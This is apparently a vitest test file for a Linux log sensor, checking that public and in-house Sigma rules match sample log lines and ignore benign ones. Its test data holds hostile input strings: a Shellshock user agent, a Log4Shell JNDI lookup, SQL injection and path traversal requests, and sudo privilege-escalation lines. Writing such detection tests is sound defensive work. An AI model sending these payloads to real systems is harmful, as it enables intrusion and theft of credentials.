import { Event } from '@yagura/protocol';
import { describe, expect, test } from 'vitest';
import { OWN_RULES } from '../../../../../test/fakes/own-rules.ts';
import { absent, corpusSources } from '../../../../../test/fakes/public-test-data.ts';
import { createNormaliser, createSigmaEvaluator, type SigmaEvaluator } from '../../../core/index.ts';
import type { Observation } from '../../sensor.ts';
import { createBootTime } from '../capture/boot-time.ts';
import { LOG_FILES, type LogFileKind } from './catalogue.ts';
import { LOG_DECLARATION } from './declaration.ts';
import { createDescriber } from './describe.ts';
import { createLineReader } from './read-line.ts';
import { createTimeZone } from './time/local-time.ts';

const missing = absent('sigma-rules');
const describer = createDescriber(
  { at: () => undefined, adopt: () => undefined },
  createBootTime(() => Date.now()),
);
const reader = createLineReader(describer, createTimeZone('UTC'), () => Date.parse('2026-11-24T20:40:00Z'));
const normaliser = createNormaliser({ newId: () => 'e', processes: { byPid: () => undefined, get: () => undefined } });

let corpus: SigmaEvaluator | undefined;
const pack = createSigmaEvaluator(OWN_RULES);

function kindOf(name: string): LogFileKind {
  const kind = LOG_FILES.find((each) => each.name === name);
  if (!kind) throw new Error(`no kind ${name}`);
  return kind;
}

function eventOf(kind: string, line: string): Event {
  const [observation] = reader.read(kindOf(kind), [Buffer.from(line)], 0);
  return normalised(observation);
}

function normalised(observation: Observation | undefined): Event {
  if (!observation) throw new Error('no observation');
  const result = normaliser.normalise(observation);
  if (!result.ok) throw new Error(result.code);
  return Event.parse(result.event);
}

const SYSLOG = 'Nov 24 20:33:01 web1';
const access = (target: string, agent = 'Mozilla/5.0'): string =>
  `203.0.113.9 - - [24/Nov/2026:20:33:01 +0000] "GET ${target} HTTP/1.1" 200 12 "-" "${agent}"`;

/** Lines as the programs write them, and the public rule that reads them: each service and both kinds of matching. */
const LINES: readonly (readonly [rule: string, kind: string, line: string])[] = [
  [
    'lnx_privileged_user_creation',
    'authentication',
    `${SYSLOG} useradd[17]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash`,
  ],
  ['lnx_sshd_susp_ssh', 'authentication', `${SYSLOG} sshd[17]: error: Corrupted MAC on input. [preauth]`],
  ['lnx_cron_crontab_file_modification', 'cron', `${SYSLOG} crontab[17]: (root) REPLACE (root)`],
  ['lnx_cron_crontab_file_modification', 'syslog', `${SYSLOG} crontab[17]: (root) REPLACE (root)`],
  ['lnx_syslog_susp_named', 'syslog', `${SYSLOG} named[17]: client 203.0.113.9#4: denied AXFR from x`],
  ['lnx_syslog_security_tools_disabling_syslog', 'syslog', `${SYSLOG} systemd[1]: stopping iptables`],
  ['lnx_clamav_relevant_message', 'syslog', `${SYSLOG} clamd[17]: /srv/x: Php.Webshell-1 FOUND`],
  ['lnx_vsftpd_susp_error_messages', 'syslog', `${SYSLOG} vsftpd[17]: Connection refused: tcp_wrappers denial.`],
  ['lnx_guacamole_susp_guacamole', 'syslog', `${SYSLOG} guacd[17]: Connection "1" joined by "a" (2 users now present)`],
  [
    'lnx_auth_exploit_cve_2021_4034_pwnkit_lpe',
    'authentication',
    `${SYSLOG} pkexec[17]: x: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp]`,
  ],
  [
    'lnx_sudo_exploit_cve_2019_14287',
    'authentication',
    `${SYSLOG} sudo[17]: taro : TTY=pts/0 ; PWD=/home/taro ; USER=#-1 ; COMMAND=/bin/bash`,
  ],
  ['lnx_buffer_overflows', 'syslog', `${SYSLOG} kernel: app: stack smashing detected`],
  ['lnx_shell_susp_log_entries', 'syslog', `${SYSLOG} kernel: device eth0 entered promiscuous mode`],
  ['lnx_shellshock', 'apache access', access('/cgi-bin/x', '() { :; }; /bin/bash -c id')],
  ['web_sql_injection_in_access_logs', 'nginx access', access('/item?id=1%20UNION%20SELECT%20password')],
  ['web_path_traversal_exploitation_attempt', 'nginx access', access('/x?f=../../../../../etc/passwd')],
  ['web_susp_useragents', 'nginx access', access('/', 'sqlmap/1.8')],
  ['web_cve_2021_44228_log4j', 'apache access', access('/?x=${jndi:ldap://203.0.113.9/a}')],
];

describe.skipIf(missing !== '')(`public rules on real lines${missing}`, () => {
  test.each(LINES)('%s: %s: %s', (rule, kind, line) => {
    corpus ??= createSigmaEvaluator(corpusSources());
    const found = corpus.evaluate(eventOf(kind, line)).map((match) => match.rule.reference ?? '');
    const isFound = found.some((reference) => reference.endsWith(`/${rule}.yml`));
    expect(isFound).toBe(true);
  });

  test('an ordinary morning meets none', () => {
    corpus ??= createSigmaEvaluator(corpusSources());
    const quiet: readonly (readonly [string, string])[] = [
      [
        'authentication',
        `${SYSLOG} sshd[17]: Accepted publickey for taro from 192.168.1.5 port 5022 ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG`,
      ],
      [
        'authentication',
        `${SYSLOG} sshd[17]: pam_unix(sshd:session): session opened for user taro(uid=1000) by (uid=0)`,
      ],
      [
        'authentication',
        `${SYSLOG} sudo[18]: taro : TTY=pts/0 ; PWD=/home/taro ; USER=root ; COMMAND=/usr/bin/apt-get upgrade`,
      ],
      ['authentication', `${SYSLOG} CRON[19]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`],
      ['cron', `${SYSLOG} CRON[19]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)`],
      ['syslog', `${SYSLOG} systemd[1]: Started Daily apt upgrade and clean activities.`],
      ['syslog', `${SYSLOG} kernel: usb 1-1: new high-speed USB device number 4`],
      ['nginx access', access('/products?page=2')],
      ['nginx error', '2026/11/24 20:33:01 [warn] 31#35: *9 an upstream response is buffered to a temporary file'],
      ['postgresql', '2026-11-24 20:33:01.000 UTC [71] LOG:  checkpoint complete: wrote 12 buffers'],
    ];
    const found = quiet.flatMap(([kind, line]) =>
      [...(corpus?.evaluate(eventOf(kind, line)) ?? []), ...pack.evaluate(eventOf(kind, line))].map(
        ({ rule }) => `${rule.title}: ${line}`,
      ),
    );
    expect(found).toEqual([]);
  });
});

test.each([
  [
    'ssh_root_login_by_password',
    'authentication',
    `${SYSLOG} sshd[17]: Accepted password for root from 203.0.113.9 port 5022 ssh2`,
  ],
  [
    'sudo_shell_by_service_account',
    'authentication',
    `${SYSLOG} sudo[17]: www-data : PWD=/var/www ; USER=root ; COMMAND=/bin/bash -i`,
  ],
  ['account_added_to_administrators', 'authentication', `${SYSLOG} usermod[17]: add 'taro' to group 'sudo'`],
  ['cron_job_from_writable_folder', 'syslog', `${SYSLOG} CRON[17]: (root) CMD (/tmp/.x/run.sh)`],
])('our own rule %s on a real line', (file, kind, line) => {
  const id = pack.rules.find(({ place }) => place.file === `linux/${file}.yml`)?.facts.ruleId;
  expect(pack.evaluate(eventOf(kind, line)).map(({ rule }) => rule.ruleId)).toContain(id);
});

test('our own rule forged_login_record on what journald tells', () => {
  const event = normalised(
    describer.record({
      time: 1,
      resolution: 1,
      program: 'sshd',
      message: 'Accepted password for root from 203.0.113.9 port 5022 ssh2',
      writer: { pid: 5, uid: 1_000, comm: 'logger', exe: '/usr/bin/logger' },
    }),
  );
  expect(pack.evaluate(event).map(({ rule }) => rule.title)).toEqual(['Login Record Forged']);
});

test('fills no field that it does not declare', () => {
  const declared = new Map<string, Set<string>>();
  for (const { service, category, fields } of LOG_DECLARATION.services ?? []) {
    const key = `${service}:${category ?? ''}`;
    declared.set(key, new Set([...(declared.get(key) ?? []), ...fields]));
  }
  const more: typeof LINES = [
    ['', 'postgresql', '2026-11-24 20:33:01 UTC [71] a@b FATAL:  password authentication failed for user "a"'],
    ['', 'mysql', "2026-11-24 20:33:01 10 [Warning] Access denied for user 'a'@'db.e.jp' (using password: NO)"],
    ['', 'apache error', '[Tue Nov 24 20:33:01 2026] [core:error] [pid 8] [client 192.0.2.9:1] AH1'],
    ['', 'authentication', `${SYSLOG} systemd-logind[1]: New session 4 of user taro.`],
    ['', 'authentication', `${SYSLOG} su[1]: FAILED SU (to root) taro on pts/0`],
    ['', 'authentication', `${SYSLOG} gpasswd[1]: user a added by root to group sudo`],
    ['', 'authentication', `${SYSLOG} passwd[1]: pam_unix(passwd:chauthtok): password changed for root`],
  ];
  for (const [, kind, line] of [...LINES, ...more]) {
    const { logsource, fields } = eventOf(kind, line);
    const names = declared.get(`${logsource.service ?? ''}:${logsource.category ?? ''}`);
    expect(names, `${logsource.service}:${logsource.category}`).toBeDefined();
    for (const name of Object.keys(fields)) expect([...(names ?? [])], line).toContain(name);
  }
});
